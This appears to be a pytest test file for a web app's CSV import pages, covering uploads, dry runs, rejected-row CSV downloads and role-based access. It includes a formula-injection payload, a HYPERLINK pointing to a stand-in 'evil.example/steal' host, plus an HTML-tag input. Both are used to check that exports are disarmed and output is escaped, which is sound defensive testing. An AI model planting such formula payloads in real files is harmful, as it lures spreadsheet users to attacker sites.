"""The member upload page, the batch list and detail pages, and the rejects CSV download."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from cpp_app.extensions import db
from cpp_app.importing.models import ImportBatch
from cpp_app.stations.models import Member
from tests import factories
from tests.helpers import post_form, row_count

UPLOAD_URL = "/imports/members"
EVIL_CELL = '=HYPERLINK("http://evil.example/steal","Click me")'


def upload(client, content: bytes, filename: str = "roster.csv", dry_run: bool = False):
    """Post a file to the member upload form, with a CSRF token from the page."""
    data = {"file": (io.BytesIO(content), filename)}
    if dry_run:
        data["dry_run"] = "y"
    return post_form(client, UPLOAD_URL, data, content_type="multipart/form-data")


@pytest.mark.usefixtures("station")
def test_admin_uploads_a_csv_and_sees_the_summary_and_rejects_by_line(admin_client, admin_user):
    content = (b"Shield number,First name,Last name,Station\n"
               b"501,Ann,Lee,CEN\n"
               b",Bo,Kim,CEN\n"
               b"502,Cy,Park,NOPE\n"
               b"503,Di,Ng,cen\n")
    response = upload(admin_client, content)
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Import finished" in page
    assert "Read 4 rows: 2 added, 0 updated, 0 unchanged, 2 rejected." in page
    assert "<td>3</td><td>the shield number is empty</td>" in page
    assert "<td>4</td><td>station &#39;NOPE&#39; does not exist (use a station code)</td>" in page
    assert set(db.session.scalars(select(Member.shield_number))) == {"501", "503"}
    batch = db.session.scalar(select(ImportBatch))
    assert batch.filename == "roster.csv"
    assert (batch.user_id, batch.actor_label) == (admin_user.id, admin_user.email)


def test_dry_run_upload_says_nothing_changed_and_adds_no_member(admin_client):
    response = upload(admin_client, b"Badge,First,Last\n9,Ann,Lee\n", dry_run=True)
    assert response.status_code == 200
    assert "Dry run: nothing was changed" in response.get_data(as_text=True)
    assert row_count(Member) == 0
    assert db.session.scalar(select(ImportBatch)).dry_run


@pytest.mark.parametrize(("content", "filename"), [
    (b"%PDF-1.4 a report", "roster.pdf"),
    (b"\xd0\xcf\x11\xe0 an old workbook", "roster.xls"),
])
def test_non_csv_upload_is_refused_with_a_clear_error_and_creates_nothing(admin_client,
                                                                          content, filename):
    response = upload(admin_client, content, filename)
    assert response.status_code == 400
    assert "Upload a .csv or .xlsx file." in response.get_data(as_text=True)
    assert row_count(ImportBatch) == 0
    assert row_count(Member) == 0


def test_empty_csv_upload_is_refused(admin_client):
    response = upload(admin_client, b"")
    assert response.status_code == 400
    assert "<div>The uploaded file is empty.</div>" in response.get_data(as_text=True)
    assert row_count(Member) == 0


def test_csv_missing_the_shield_column_is_refused_naming_it(admin_client):
    response = upload(admin_client, b"First name,Last name\nAnn,Lee\n")
    assert response.status_code == 400
    assert "The file has no column for: Shield number." in response.get_data(as_text=True)
    assert db.session.scalar(select(ImportBatch)).status == "failed"


def test_batch_list_and_detail_show_the_batch_and_its_rejects(admin_client):
    upload(admin_client, b"Badge,First,Last\n1,Ann,Lee\n1,Bo,Kim\n", filename="night-shift.csv")
    batch = db.session.scalar(select(ImportBatch))
    listing = admin_client.get("/imports").get_data(as_text=True)
    assert f'href="/imports/{batch.id}"' in listing
    assert "night-shift.csv" in listing
    detail = admin_client.get(f"/imports/{batch.id}")
    page = detail.get_data(as_text=True)
    assert detail.status_code == 200
    assert "night-shift.csv" in page
    assert "2 read, 1 added, 0 updated, 0 unchanged, 1 rejected" in page
    assert "<td>3</td>" in page
    assert "shield number 1 already appears on line 2" in page
    assert f"/imports/{batch.id}/rejects.csv" in page


def test_rejects_csv_disarms_spreadsheet_formulas(admin_client):
    content = ("Badge,First,Last\n"
               f'2,"{EVIL_CELL.replace(chr(34), chr(34) * 2)}",Lee,extra\n'
               " ,+1 555 0100,@SUM(A1)\n"
               "4,,-2+3\n").encode()
    upload(admin_client, content)
    batch = db.session.scalar(select(ImportBatch))
    response = admin_client.get(f"/imports/{batch.id}/rejects.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == ["line", "reason", "Badge", "First", "Last"]
    by_line = {row[0]: row for row in rows[1:]}
    assert sorted(by_line) == ["2", "3", "4"]
    assert len(rows) == 4
    assert by_line["2"][3] == "'" + EVIL_CELL
    assert by_line["3"][2:] == [" ", "'+1 555 0100", "'@SUM(A1)"]
    assert by_line["4"][2:] == ["4", "", "'-2+3"]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_rejects_csv_disarms_formulas_in_the_files_own_headers(admin_client):
    upload(admin_client, b"Badge,First,Last,=1+1\n,Ann,Lee,x\n")
    batch = db.session.scalar(select(ImportBatch))
    text = admin_client.get(f"/imports/{batch.id}/rejects.csv").get_data(as_text=True)
    header = next(csv.reader(io.StringIO(text)))
    assert header == ["line", "reason", "Badge", "First", "Last", "'=1+1"]


@pytest.mark.parametrize("role", ["commander", "staff", "training", "viewer"])
def test_non_admin_roles_get_403_on_the_import_pages(client, login, station, role):
    user = factories.make_user(role, station=station if role in ("commander", "staff") else None)
    login(user)
    assert client.get(UPLOAD_URL).status_code == 403
    assert client.get("/imports").status_code == 403
    response = post_form(client, UPLOAD_URL, {"file": (io.BytesIO(b"Badge\n1\n"), "r.csv")},
                         form_page="/home", content_type="multipart/form-data")
    assert response.status_code == 403
    assert row_count(Member) == 0
    assert row_count(ImportBatch) == 0


def test_anonymous_visitor_is_sent_to_log_in(client):
    response = client.get(UPLOAD_URL)
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_batch_list_offers_each_kinds_upload_page(admin_client):
    page = admin_client.get("/imports").get_data(as_text=True)
    for url, label in (("/imports/members", "Import members"),
                       ("/stakeholders/import", "Import stakeholders"),
                       ("/training/import", "Import training records"),
                       ("/engagement/import", "Import engagement records")):
        assert f'href="{url}">{label}</a>' in page
    for kind, label in (("members", "Members"), ("stakeholders", "Stakeholders"),
                        ("training", "Training records"), ("engagements", "Engagement records")):
        assert f'<option value="{kind}">{label}</option>' in page


def test_commander_uploads_a_stakeholder_directory_through_the_shared_page(client, login,
                                                                           station):
    login(factories.make_user("commander", station=station))
    content = (f"Station,Organisation,Kind\n{station.code},Al-Noor Mosque,Mosque\n"
               f"NOPE,Ghost Org,Church\n{station.code},Odd Org,<b>Cult</b>\n").encode()
    response = post_form(client, "/stakeholders/import",
                         {"file": (io.BytesIO(content), "directory.csv")},
                         content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Read 3 rows: 1 added, 0 updated, 0 unchanged, 2 rejected." in page
    assert "<td>3</td><td>station &#39;NOPE&#39; does not exist</td>" in page
    assert "<td>4</td><td>kind &#39;&lt;b&gt;Cult&lt;/b&gt;&#39; is not one of" in page
    assert "<b>Cult</b>" not in page
    batch_id = db.session.scalar(select(ImportBatch.id))
    assert f'href="/imports/{batch_id}/rejects.csv">Download the rejected rows (CSV)</a>' in page
    rejects = client.get(f"/imports/{batch_id}/rejects.csv")  # their own batch's rejects
    assert "Ghost Org" in rejects.get_data(as_text=True)
    refused = post_form(client, "/stakeholders/import",
                        {"file": (io.BytesIO(b"Station\nCEN\n"), "directory.csv")},
                        content_type="multipart/form-data")
    assert refused.status_code == 400
    assert "The file has no column for: Organisation." in refused.get_data(as_text=True)
    batch = db.session.scalar(select(ImportBatch).where(ImportBatch.status == "completed"))
    assert (batch.kind, batch.filename) == ("stakeholders", "directory.csv")


def test_batch_pages_show_the_status_and_kind_as_labels_not_codes(admin_client):
    upload(admin_client, b"First name,Last name\nAnn,Lee\n", filename="no-shields.csv")
    batch = db.session.scalar(select(ImportBatch))
    assert (batch.kind, batch.status) == ("members", "failed")
    listing = admin_client.get("/imports").get_data(as_text=True)
    detail = admin_client.get(f"/imports/{batch.id}").get_data(as_text=True)
    for page in (listing, detail):
        assert "<td>failed</td>" not in page
        assert ">failed<" not in page
        assert "Failed" in page
    assert "<td>Members</td>" in listing
    assert '<option value="members">Members</option>' in listing
    assert '<small class="text-muted">Members</small>' in detail
    assert "<dd class=\"col-sm-9\">Failed</dd>" in detail
